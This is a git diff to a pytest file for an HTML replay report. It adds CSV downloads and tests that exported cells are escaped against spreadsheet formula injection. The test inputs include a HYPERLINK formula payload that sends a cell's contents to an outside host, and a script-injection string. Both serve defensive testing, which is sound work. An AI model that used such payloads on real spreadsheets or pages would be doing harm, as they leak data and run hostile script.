@@ -1,11 +1,15 @@
 """The page: complete, escaped, small, and without anything from elsewhere."""
 
+import csv
+import io
 import json
 import re
 from base64 import b64encode
 from fractions import Fraction
 from hashlib import sha256
+from html import unescape
 from html.parser import HTMLParser
+from urllib.request import urlopen
 
 import pytest
 
@@ -17,6 +21,7 @@ from keyshared.spark.replays.enough_report import Behind, Enough, Series, Wait
 from keyshared.spark.replays.replay_report import Backlog, ConsumerLoad, ReplayReport, html
 from keyshared.spark.replays.stays import State, Stay
 
+FORMULA = '=HYPERLINK("http://x/?"&A1;"k")'
 NASTY = "</td><script>alert('1')</script>&\""
 VOID = {"meta"}
 
@@ -163,6 +168,11 @@ class Page(HTMLParser):
         if tag not in VOID:
             self.open.append(tag)
 
+    @property
+    def links(self) -> list[str | None]:
+        """Where the page leads."""
+        return [value for name, value in self.attributes if name == "href"]
+
     def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.seen.append(tag)
         self.attributes += attrs
@@ -178,6 +188,17 @@ class Page(HTMLParser):
                 assert f"'sha256-{b64encode(sha256(data.encode()).digest()).decode()}'" in self.policy
         elif self.open[-1:] != ["style"] and data.strip():
             self.text += f"{data}\n"
+
+
+def taken(page: str) -> dict[str, list[dict[str, str]]]:
+    """The files of a page by name, read by what knows nothing of how they were written."""
+    found: dict[str, list[dict[str, str]]] = {}
+    for name, link in re.findall(r'<a download="(.*?)" href="(.*?)"', page):
+        assert name not in found
+        with urlopen(unescape(link)) as file:  # noqa: S310 - the address is the file
+            assert "text/csv;charset=utf-8" == file.headers["Content-type"]
+            found[name] = list(csv.DictReader(io.StringIO(file.read().decode("utf-8-sig"), newline=""), strict=True))
+    return found
 
 
 def test_the_page_shows_every_number_of_the_report() -> None:
@@ -271,10 +292,54 @@ def test_the_page_refers_to_nothing_outside_itself_and_may_load_nothing() -> Non
     without_scripts = re.sub(r"<script>.*?</script>", "", page, flags=re.DOTALL)
     assert not re.search(r"https?:|//|@import|url\(|<link|<iframe|<img", without_scripts)
     found = Page(page)
-    assert {name for name, _ in found.attributes}.isdisjoint({"src", "href", "xlink:href", "action", "data", "style"})
+    assert {name for name, _ in found.attributes}.isdisjoint({"src", "xlink:href", "action", "data", "style"})
+    assert {"data:text/csv;charset=utf-8"} == {(told or "").partition(",")[0] for told in found.links}
     rules = dict(rule.strip().split(" ", 1) for rule in found.policy.split(";"))
     assert "'none'" == rules["default-src"]
     assert all(source.startswith("'sha256-") for source in rules["script-src"].split())
+
+
+def test_figures_can_be_taken_away_as_the_report_has_them() -> None:
+    page = html(full(name=FORMULA))
+    files = taken(page)
+    waited = files["flights-keys-that-waited-most.csv"]
+    assert [
+        {
+            "key": f"'{FORMULA}slow",  # a spreadsheet takes it for text
+            "of all waiting": "0.734",
+            "messages": "40",
+            "of all": "0.000118773",
+            "needs of a consumer": "1.5",
+            "consumers": f"'{FORMULA}1",
+            "wait p99 (ms)": "5",
+        }
+    ] == waited
+    behind = files["flights-topic-partitions-that-were-behind.csv"]
+    assert [("3600000", "4200000", "600000", "90000", "17", "4", "700000")] * 3 == [
+        tuple(row.values())[1:] for row in behind
+    ]
+    assert "fell behind (ms after the start)" in behind[0]
+    use = files["flights-use-of-each-consumer-over-time.csv"]
+    assert [[str(minute * 60_000) for minute in range(60)]] == [[row["at (ms after the start)"] for row in use]]
+    for number in range(3):
+        told = [float(row[f"'{FORMULA}{number}"]) for row in use]
+        assert [(minute * 60_000 + number) % 101 / 100 for minute in range(60)] == told
+    waits = files["flights-wait-over-time.csv"]
+    assert [(t * 61, t % 7) for t in range(10)] == [(int(row["p99 (ms)"]), int(row["p50 (ms)"])) for row in waits]
+    [stay, *_] = files["flights-when-each-consumer-was-up.csv"]
+    assert [f"'{FORMULA}0", "up", "0", "3600000"] == list(stay.values())
+    every = [cell for rows in files.values() for row in rows for cell in (*row, *row.values())]
+    assert not [cell for cell in every if cell.startswith(("=", "@", "+"))]
+    assert not [cell for cell in every if cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)]
+
+
+def test_times_that_are_taken_away_are_those_of_the_calendar() -> None:
+    page = html(report(enough=enough(), epoch_ms=1_368_328_500_007, zone="local time"))
+    files = taken(page)
+    use = files["flights-use-of-each-consumer-over-time.csv"]
+    assert ["2013-05-12 03:15:00.007", "2013-05-12 03:16:00.007"] == [row["at (local time)"] for row in use[:2]]
+    [behind, *_] = files["flights-topic-partitions-that-were-behind.csv"]
+    assert "2013-05-12 04:15:00.007" == behind["fell behind (local time)"]
 
 
 def test_the_page_stays_small_however_long_the_log_is_and_has_its_scripts_once() -> None:
